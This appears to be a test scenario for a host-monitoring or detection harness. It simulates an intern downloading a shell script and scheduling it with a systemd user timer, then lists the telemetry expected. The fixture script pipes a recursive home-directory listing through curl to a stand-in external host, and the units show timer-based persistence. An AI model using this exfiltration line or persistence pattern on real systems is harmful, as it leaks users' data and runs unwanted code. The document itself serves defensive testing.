# Downloaded now, run later by a timer that the user has just enabled.
title="Downloaded script run by the user's new systemd timer"
what="The intern saves cleanup.sh with Chromium from a private cloud drive, writes a user service and a timer for it, as its instructions say, and enables the timer. The session's systemd runs the script some seconds later; it sends a file list to 203.0.113.66."
host=ws3.example.org user=intern daemons="cron sshd"

setup() { mkdir -p "$base/out/www/d"; printf '#!/bin/sh\nls -R "$HOME" | curl -s --data-binary @- http://drop.example.net/l >/dev/null\ntouch "$HOME/.cleanup-done"\n' > "$base/out/www/d/cleanup.sh"; }
act() {
  user_manager intern
  small_talk 2
  display_up
  chromium_as intern https://files.example.net/d/cleanup.sh
  wait_file /home/intern/Downloads/cleanup.sh 40
  sleep 3
  desktop_close
  ssh_as intern <<'L'
chmod u+x Downloads/cleanup.sh
mkdir -p .config/systemd/user
printf '[Service]\nType=oneshot\nExecStart=%%h/Downloads/cleanup.sh\n' > .config/systemd/user/cleanup.service
printf '[Timer]\nOnActiveSec=6s\nAccuracySec=1s\n[Install]\nWantedBy=timers.target\n' > .config/systemd/user/cleanup.timer
systemctl --user daemon-reload
systemctl --user enable --now cleanup.timer
L
  wait_file /home/intern/.cleanup-done 30
  small_talk 1
  user_managers_down
}
truth() {
  file_step save 'chromium.* (rename|link) .*CREATE /home/intern/Downloads/cleanup.sh$' 'the browser saves the script'
  file_step unit 'bash open(at)?:write CREATE .*systemd/user/cleanup.timer' 'a timer is written'
  exec_step enable 'systemctl --user enable --now cleanup.timer' 'and enabled'
  exec_step execute '(sh|dash) /bin/sh /home/intern/Downloads/cleanup.sh' 'systemd runs the download'
  net_step beacon 'curl 203.0.113.66:80' 'and it sends a list outside'
}
